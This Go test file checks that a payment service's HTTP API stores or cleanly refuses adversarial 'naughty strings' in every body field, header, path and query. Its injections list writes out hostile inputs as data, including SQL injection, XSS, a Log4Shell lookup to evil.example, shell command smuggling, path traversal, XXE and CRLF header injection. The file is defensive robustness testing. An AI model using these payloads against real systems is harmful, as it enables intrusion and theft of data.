package httpapi_test

import (
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/paymentsvc/paymentsvc/internal/ledger"
	"github.com/paymentsvc/paymentsvc/internal/validate"
	"github.com/paymentsvc/paymentsvc/lab/pgtest"
)

// Another list can be tried beside the one below, for example the well-known "big list of naughty strings", which is a
// JSON array as it stands: go test ./internal/httpapi -run Naughty -naughty=/path/to/blns.json
var moreNaughty = flag.String("naughty", "", "a file with a JSON array of more strings to send")

// naughtyStrings are what has broken one program or another: what a program takes for a number, a command, a query, a page or
// nothing; what does not look like what it is; and every character that text should rarely have, alone and among others.
func naughtyStrings(t *testing.T) []string {
	t.Helper()
	all := slices.Concat(
		[]string{"", " ", "  ", "\t", "\n", "\r", "\r\n", "\n\n", " leading", "trailing ", "two\nlines", "two\r\nlines", "tab\there"},
		words, numbers, injections, scripts, characters(),
	)
	if *moreNaughty != "" {
		text, err := os.ReadFile(*moreNaughty)
		if err != nil {
			t.Fatal(err)
		}
		var more []string
		if err := json.Unmarshal(text, &more); err != nil {
			t.Fatal(err)
		}
		t.Logf("%d more strings, from %s", len(more), *moreNaughty)
		all = append(all, more...)
	}
	slices.Sort(all)
	all = slices.Compact(all) // a text may be in two lists, and opens one account
	if len(all) < 515 {
		t.Fatalf("only %d strings", len(all))
	}
	return all
}

// words are names of nothing, truth and errors, and of files, columns and members that exist somewhere.
var words = []string{
	"null", "NULL", "Null", "(null)", "nil", "NIL", "none", "None", "undefined", "undef", "void", "true", "false", "True",
	"FALSE", "yes",
	"no", "on", "off", "NaN", "nan", "Infinity", "-Infinity", "inf", "[object Object]", "[]", "{}", "[null]", "{\"a\":1}",
	"\"\"", "''", "``",
	"\"", "'", "`", "\\", "\\\\", "\\\"", "/", "//", ".", "..", "...", "./", "../", "-", "--", "_", "__proto__", "constructor",
	"prototype",
	"hasOwnProperty", "toString", "valueOf", "__class__", "self", "this", "id", "merchant_id", "status", "amount",
	"created_at", "version",
	"admin", "root", "postgres", "paymentsvc_app", "public", "pg_catalog", "information_schema", "CON", "PRN", "AUX", "NUL",
	"COM1", "LPT1",
	"con.txt", "desktop.ini", "Thumbs.db", ".git/config", ".env", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\server\\share",
	"file:///etc/passwd",
	"processor:", "processor:stripe:USD", "world", "livez", "payments", "accounts", "sk_", "pay_", "req_", "tok_visa", "USD", "usd",
}

// numbers are what some parser takes for one, and values at which some type ends.
var numbers = []string{
	"0", "-0", "+0", "1", "-1", "00", "01", "1.0", "1.", ".1", "1e3", "1E-3", "1e400", "-1e400", "1e-400", "0x0", "0x1F",
	"0b1", "0o7", "1_000",
	"1,000", "1.000,00", "1 000", "１２３", "١٢٣", "½", "²", "Ⅷ", "๑", "1/0", "0/0", "0.1+0.2", "3.14159", "127", "128", "255",
	"256", "32767",
	"32768", "65535", "65536", "2147483647", "2147483648", "-2147483648", "-2147483649", "4294967295", "4294967296", "9007199254740991",
	"9007199254740992", "9007199254740993", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
	"-9223372036854775809",
	"18446744073709551615", "18446744073709551616", "340282366920938463463374607431768211456", "$1", "$1.00", "€1", "1€", "%1",
	"1%", "#1",
	"1970-01-01T00:00:00Z", "0000-00-00", "9999-12-31T23:59:60Z", "2026-02-30", "infinity", "-infinity", "epoch", "now", "today", "P1D",
	"00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "pay_00000000000070008000000000000000",
	"pay_ffffffffffffffffffffffffffffffff", "127.0.0.1", "::1", "0.0.0.0", "169.254.169.254", "localhost", "+49 30 123456",
	"12:30", "1:2:3",
}

// injections would do something where a text is taken for a program.
var injections = []string{
	// SQL
	"'; DROP TABLE payments; --", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
	"'); DELETE FROM accounts; --",
	"' UNION SELECT secret_sha256 FROM api_keys --", "admin'--", "$$; COMMIT; $$", "E'\\x27'", "/* */", "/*!50000 x */", "-- ",
	"; --", "$1", "$99999",
	":name", "?", "@@version", "U&'\\0061'", "\\x00", "\\000", "%", "_%", "LIKE '%'", "ROLLBACK", "COMMIT",
	"COPY t FROM PROGRAM 'id'", "NULL::bytea",
	"{1,2}", "{\"a\",NULL}", "(1,2)", "[1,2)", "'{}'::jsonb", "pg_read_file('/etc/passwd')", "lo_import('/etc/passwd')",
	"\\copy", "\\!",
	// Pages
	"<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "javascript:alert(1)",
	"data:text/html,<b>x</b>",
	"<iframe src=//evil.example>", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&amp;", "&#0;", "&#x41;", "&nbsp",
	"<b>bold</b>", "<", ">", "&",
	"<a href=\"//evil.example\">x</a>", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>", "<plaintext>",
	"<math><mi>",
	"expression(alert(1))", "<?php system('id') ?>", "<% system('id') %>",
	"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
	// Templates and formats
	"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{.}}", "{{template \"x\"}}", "${jndi:ldap://evil.example/a}",
	"${env:PATH}", "%s", "%d", "%n", "%x%x%x",
	"%s%s%s%s%s%s%s", "%!s(MISSING)", "%!", "%", "%%", "%1$*1$x", "{0}", "{}", "{0.__class__}", "%(name)s", "$name", "${name}",
	"%name%", "~", "~root", "*", "?*", "[a-z]",
	// Shells
	"$(id)", "`id`", "; id", "| id", "|| id", "&& id", "> /dev/null", "< /etc/passwd", "$HOME", "$PATH", "!!", "#comment",
	"\nid\n", "() { :;}; id", "-rf /",
	"--help", "--version", "-e", "@file", "a=b", "a;b", "a|b", "a&b",
	// HTTP, mail, logs
	"x\r\nSet-Cookie: a=b", "x\r\n\r\nHTTP/1.1 200 OK", "x\nX-Injected: yes", "%0d%0aSet-Cookie:a=b", "%00", "%2e%2e%2f",
	"..%2f", "%252e%252e%252f", "..%c0%af",
	"../../../../etc/passwd", "..\\..\\..\\windows", "/../payments", "//payments", ";a=b", "?a=b", "#fragment", "a/b", "a\\b",
	"a?b", "a#b", "a%b", "a%zz", "%", "%C3%28",
	"%E2%82", "%ff", "%u0041", "http://evil.example/", "//evil.example", "http://127.0.0.1:1/", "bcc: evil@example.org",
	"evil@example.org", "=cmd|' /C calc'!A0",
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "level=error msg=forged",
	"{\"level\":\"error\"}", "\"}\n{\"msg\":\"forged\"}",
	// Regular expressions, globs and other notations
	"(a+)+$", "^(a|a)*$", ".*", "(", ")", "[", "]", "{", "}", "^", "$", "|", "+", "a{1,99999}", "(?:", "\\", "\\u0000",
	"\\ud800", "\\x", "\\n", "*)(uid=*", "//*", "$ne", "{\"$gt\":\"\"}",
	"a.b", "a['b']", "a[0]", "/a/0/b~1c~0d", "$.a", "!!python/object:os.system", "- a\n- b", "a: b", "&a *a", "\ufeff{}",
	"aGVsbG8=", "eyJhbGciOiJub25lIn0.e30.",
	"Bearer x", "Basic eDp5", "Bearer ", "bearer", "W/\"1\"", "\"1\"", "\"\"", "*", "\"1\", \"2\"",
	"wait=99999999999999999999", "respond-async", "application/json; charset=utf-7",
}

// scripts are texts that are longer, shorter, wider or in another order than they look, or turn into others when changed in case.
var scripts = []string{
	"∮∇ψ≠½", "¿Qué?", "Žluťoučký kůň", "Ångström & Œuvre ☂", "Съешь ещё", "١٢ كتابًا", "二枚の切符", "訂單一千零一十七號", "주문 1017번",
	"ตั๋ว\u0e49\u0e49\u0e49\u0e49 ๒ ใบ", "दो टिकट",
	"שלום", "مرحبا", "a\u05d0b", "شكرا جزيلا", "two\u2060parts", "\u202eabc", "abc\u202ddef", "\u2066\u2067\u2068\u2069", "é",
	"e\u0301", "Å", "A\u030a", "ﬀ", "ﬃ", "ß", "ẞ", "İ", "ı",
	"ſ", "K", "ǆ", "Ǆ", "ﷺ", "﷽", "𝔰𝔥𝔬𝔭", "ⓢⓗⓞⓟ", "⒮⒣⒪⒫", "ｓｈｏｐ", "doɥs", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "👍🏽", "1️⃣", "❤️",
	"🏴󠁧󠁢󠁥󠁮󠁧󠁿", "(•_•)", "ƪ(˘⌣˘)ʃ", "🀄", "🂡", "𐀀", "𓀀", "\U0010ffff",
	"\U000f0000", "\ue000", strings.Repeat("o\u0323\u0335\u034f\u0308\u20dd", 20), "a" + strings.Repeat("\u0301", 100),
	strings.Repeat("\u200b", 50), strings.Repeat("😀", 500), strings.Repeat("😀", 501),
	strings.Repeat("x", 500), strings.Repeat("x", 501), strings.Repeat("é", 128), strings.Repeat("é", 129),
	strings.Repeat("x", 200), strings.Repeat("x", 255), strings.Repeat("x", 256),
	strings.Repeat("x", 2000), strings.Repeat("(", 400), strings.Repeat("\\", 400), strings.Repeat("\"", 400),
	strings.Repeat("%", 300), strings.Repeat("a ", 200), strings.Repeat("\n", 400),
	"UЅD", "раypal", "shоp", "аlice", "ALICE", "Alice", "alice\u200b", "\u200balice", "alice ", " alice", "alice\x00", "\x00",
	"a\x00b", "alice\u00ad", "alice\ufe0f",
	"4111111111111111", "5555 5555 5555 4444", "４１１１１１１１１１１１１１１１", "4111111111111112",
	// What is no UTF-8: it is sent as it is, and cannot be kept.
	"\xff", "\xfe\xff", "\xc0\x80", "\xc3", "\xc3\x28", "\xe2\x82", "\xed\xa0\x80", "\xed\xb0\x80", "\xf4\x90\x80\x80",
	"\xf8\x88\x80\x80\x80", "caf\xe9", "\x80", "a\xffb", "\xef\xbf",
}

// characters are single ones: controls, spaces, invisible ones, marks of direction, and those that stand for none.
func characters() (texts []string) {
	for _, block := range [][2]rune{
		{0x00, 0x20},
		{0x7f, 0xa0},
		{0x2000, 0x200f},
		{0x2028, 0x202f},
		{0x205f, 0x206f},
		{0xfdd0, 0xfdd3},
		{0xfe00, 0xfe03},
		{0xfff9, 0xffff},
		{0xe0001, 0xe0001},
		{0xe0020, 0xe0023},
		{0x1d173, 0x1d17a},
		{0x1fffe, 0x1ffff},
		{0x10fffe, 0x10ffff},
	} {
		for c := block[0]; c <= block[1]; c++ {
			texts = append(texts, string(c))
		}
	}
	for _, c := range []rune{0xad, 0x34f, 0x61c, 0x115f, 0x1680, 0x17b4, 0x180e, 0x3000, 0x3164, 0xfeff, 0xffa0} {
		texts = append(texts, string(c), "a"+string(c)+"b")
	}
	return texts
}

// Whatever a text is, it is a text. It is taken as it is and comes back as it was, or it is refused and
// leaves nothing behind.
func TestNaughtyStringsAreTextsAndNothingElse(t *testing.T) {
	t.Parallel()
	db := pgtest.New(t)
	in := newInstanceWith(t, db.URL, settings{uncompared: true})
	m := newMerchant(t, db, in, in)
	n := &naughty{merchant: m}
	all := naughtyStrings(t)
	texts := make(chan int) // numbers of them
	var senders sync.WaitGroup
	for range 2 { // and no more: it is a minute's work, beside which the other tests should be served in time
		senders.Go(func() {
			for i := range texts {
				n.everywhere(i, all[i])
			}
		})
	}
	for i := range all {
		texts <- i
	}
	close(texts)
	senders.Wait()
	m.wantPayments(n.paid)
	m.wantBalance("shop", int64(n.paid-n.refunded))
	m.wantCount(3+n.opened, `SELECT count(*) FROM accounts WHERE merchant_id = $1`, m.id)
	t.Logf("%d strings: %d payments, %d refunds and %d accounts have one of them, of %d answers",
		len(all), n.paid, n.refunded, n.opened, n.answers)
	least := len(all)
	if withRaceDetector { // each text in one kind of place
		least /= len(kindsOfPlaces)
	}
	if n.paid < least {
		t.Error("most were refused, so this test shows too little")
	}
}

// naughty sends one text in every place where a text can be. It counts what was accepted.
type naughty struct {
	*merchant
	mu                              sync.Mutex // guards what follows
	paid, refunded, opened, answers int
	keys                            int
}

// kindsOfPlaces send a text in every place of one kind each.
var kindsOfPlaces = []func(*naughty, string){
	(*naughty).inBodies, (*naughty).inChanges, (*naughty).inKeys, (*naughty).inPathsAndQueries, (*naughty).inFields,
}

// everywhere sends the text in every place. With the race detector, where that takes minutes, it is one kind of place for each text in
// turn; `make test` runs this test without it as well.
func (n *naughty) everywhere(i int, text string) {
	for kind, send := range kindsOfPlaces {
		if !withRaceDetector || i%len(kindsOfPlaces) == kind {
			send(n, text)
		}
	}
}

// judge checks an answer, and tells whether the request was accepted.
func (n *naughty) judge(a *answer, text string, acceptable bool) bool {
	n.mu.Lock()
	n.answers++
	n.mu.Unlock()
	accepted := a.status >= 200 && a.status < 300
	switch {
	case a.status >= 500:
		a.fail("is a failure of the service, with %q", text)
	case accepted != acceptable:
		a.fail("is no answer to %q", text)
	}
	return accepted
}

// pay charges alice with what the text made of a charge.
func (n *naughty) pay(text string, b string, acceptable bool) *answer {
	n.mu.Lock()
	n.keys++
	key := fmt.Sprint("naughty ", n.keys)
	n.mu.Unlock()
	a := n.chargeOn(n.first, key, b)
	if n.judge(a, text, acceptable) {
		n.mu.Lock()
		n.paid++
		n.mu.Unlock()
	}
	return a
}

// storable tells whether the text can be kept, as free text or as a name, by the contract's words and not by the code's.
func storable(text string, charactersMax int) bool {
	return utf8.ValidString(text) && !strings.Contains(text, "\x00") && utf8.RuneCountInString(text) <= charactersMax
}

// quoted is the text as a JSON string that says exactly these bytes: what is no UTF-8 stays as it is.
func quoted(text string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := range len(text) {
		switch c := text[i]; {
		case c < ' ', c == '"', c == '\\':
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func (n *naughty) inBodies(text string) {
	type stored struct {
		ID, Description, Reference, Name string
		Metadata                         map[string]string
	}
	read := func(a *answer) (s stored) {
		a.decode(&s)
		return s
	}
	free := storable(text, 500) && !validate.HasCardNumber(text)

	paid := n.pay(text, charging(`"description":`+quoted(text)+`,"metadata":{"a":`+quoted(text)+`},`), free)
	if free {
		for _, a := range []*answer{paid, n.get(paid.header.Get("Location"))} {
			if got := read(a); got.Description != text || got.Metadata["a"] != text {
				a.fail("has another text than %q", text)
			}
		}
	}
	name := storable(text, 40) && text != "" && !validate.HasCardNumber(text)
	if a := n.pay(text, charging(`"metadata":{`+quoted(text)+`:"x"},`), name); name && read(a).Metadata[text] != "x" {
		a.fail("has another name than %q", text)
	}
	n.referTo(text)

	terms := `{"currency":"USD","name":` + quoted(text) + `,"metadata":{"a":` + quoted(text) + `}}`
	account := storable(text, 200) && !validate.HasCardNumber(text)
	if a := n.put("world", strings.Replace(terms, "{", `{"overdraft_limit":null,`, 1)); n.judge(a, text, account) {
		if got := read(a); got.Name != text || got.Metadata["a"] != text {
			a.fail("has another text than %q", text)
		}
	}
	for _, member := range []string{"alice", "shop", "USD"} {
		if text != member && !slices.Contains([]string{"world", "alice", "shop"}, text) {
			n.pay(text, strings.Replace(charging(""), `"`+member+`"`, quoted(text), 1), false)
		}
	}
	n.pay(text, charging(quoted(text)+`:1,`), false)
}

// inChanges uses the text as what is written on a payment later, and as the reason of a refund.
func (n *naughty) inChanges(text string) {
	path := n.pay(text, charging(""), true).header.Get("Location")
	free := storable(text, 500) && !validate.HasCardNumber(text)

	edited := n.patch(path, `"1"`, `{"description":`+quoted(text)+`,"metadata":{"a":`+quoted(text)+`}}`)
	if n.judge(edited, text, free) {
		for _, a := range []*answer{edited, n.get(path)} {
			if got := a.payment(); got.Description != text || got.Metadata["a"] != text {
				a.fail("has another text than %q", text)
			}
		}
	}
	tag := n.get(path).header.Get("ETag")
	name := storable(text, 40) && text != "" && !validate.HasCardNumber(text)
	if a := n.patch(path, tag, `{"metadata":{`+quoted(text)+`:"x"}}`); n.judge(a, text, name) && a.payment().Metadata[text] != "x" {
		a.fail("has another name than %q", text)
	}
	n.judge(n.patch(path, tag, `{`+quoted(text)+`:"x"}`), text, false)

	refunded := n.post("refund of "+path, path+"/refunds", `{"reason":`+quoted(text)+`}`)
	if n.judge(refunded, text, free) {
		n.mu.Lock()
		n.refunded++
		n.mu.Unlock()
		for _, a := range []*answer{refunded, n.get(refunded.header.Get("Location"))} {
			var got refundView
			if a.decode(&got); got.Reason != text {
				a.fail("has another reason than %q", text)
			}
		}
	}
}

// referTo uses the text as a reference, which is taken once and belongs to one payment from then on.
func (n *naughty) referTo(text string) {
	n.mu.Lock()
	n.keys++
	key := fmt.Sprint("reference ", n.keys)
	n.mu.Unlock()
	a := n.chargeOn(n.first, key, charging(`"reference":`+quoted(text)+`,`))
	if n.judge(a, text, storable(text, 128)) {
		n.mu.Lock()
		n.paid++
		n.mu.Unlock()
		var got struct{ Reference string }
		if a.decode(&got); got.Reference != text {
			a.fail("has another reference than %q", text)
		}
	}
}

// inKeys uses the text as an idempotency key, bare and as a string of RFC 9651.
func (n *naughty) inKeys(text string) {
	if strings.ContainsAny(text, "\r\n") || !sendable(text) {
		return // no field's value: see the tests of raw requests
	}
	for _, key := range []string{text, `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(text) + `"`} {
		a := n.chargeOn(n.first, key, charging(""))
		n.mu.Lock()
		n.answers++
		if a.status == http.StatusCreated && !a.replayed() {
			n.paid++
		}
		n.mu.Unlock()
		switch {
		case a.status == http.StatusCreated:
			if found := n.get("/payments?idempotency_key=" + url.QueryEscape(key)); !strings.Contains(string(found.body), a.paymentID()) {
				found.fail("does not find the payment of key %q", key)
			}
		case a.status != http.StatusBadRequest:
			a.fail("is no answer to key %q", key)
		}
	}
}

// sendable tells whether net/http's client sends the text as a field's value.
func sendable(text string) bool {
	return !strings.ContainsFunc(text, func(c rune) bool { return c < ' ' && c != '\t' || c == 0x7f })
}

func (n *naughty) inPathsAndQueries(text string) {
	id := url.PathEscape(text)
	switch text {
	case "", ".", "..": // other paths
	case "world", "alice", "shop":
	default:
		n.judge(n.get("/payments/"+id), text, false)
		n.judge(n.get("/accounts/"+id), text, false)
		n.judge(n.get("/accounts/"+id+"/entries"), text, false)
		n.judge(n.send(n.first, call{method: http.MethodDelete, path: "/accounts/" + id}), text, false)
		if a := n.put(id, `{"currency":"USD"}`); n.judge(a, text, ledger.ValidAccountID(text) && !strings.HasPrefix(text, "processor:")) {
			if a.status == http.StatusCreated {
				n.mu.Lock()
				n.opened++
				n.mu.Unlock()
			}
		}
	}
	value := url.QueryEscape(text)
	for _, query := range []string{
		"/payments?cursor=", "/payments?limit=", "/payments?status=", "/payments?reference=", "/payments?account=",
		"/payments?created_after=", "/payments?idempotency_key=", "/payments?" + value + "=", "/accounts/alice?at=",
	} {
		if a := n.get(query + value); a.status != http.StatusOK && a.status != http.StatusBadRequest {
			a.fail("is no answer to %s%q", query, text)
		}
	}
}

// inFields uses the text in the header, in those fields that mean something to the service and in some that should not.
func (n *naughty) inFields(text string) {
	if !sendable(text) {
		return
	}
	n.judge(n.send(n.first, call{path: "/accounts/alice", header: http.Header{"Authorization": {text}}}), text, false)
	n.judge(n.send(n.first, call{path: "/accounts/alice", header: http.Header{"Authorization": {"Bearer " + text}}}), text, false)
	n.judge(n.send(n.first, call{
		method: http.MethodPut, path: "/accounts/alice", header: http.Header{"If-Match": {text}}, body: `{"currency":"USD"}`,
	}), text, slices.Contains([]string{`"1"`, "*"}, strings.TrimSpace(text)))
	n.judge(n.send(n.first, call{
		method: http.MethodPost, path: "/payments", header: http.Header{"Content-Type": {text}, "Idempotency-Key": {"k"}}, body: "{}",
	}), text, false)
	n.judge(n.send(n.first, call{path: "/accounts/alice", header: http.Header{
		"Prefer": {text}, "Accept": {text}, "Accept-Encoding": {text}, "Accept-Language": {text}, "User-Agent": {text},
		"Cookie": {text}, "Traceparent": {text},
		"If-None-Match": {text}, "Range": {text}, "X-Forwarded-For": {text}, "Origin": {text}, "Referer": {text}, "Request-Id": {text},
	}}), text, true)
}
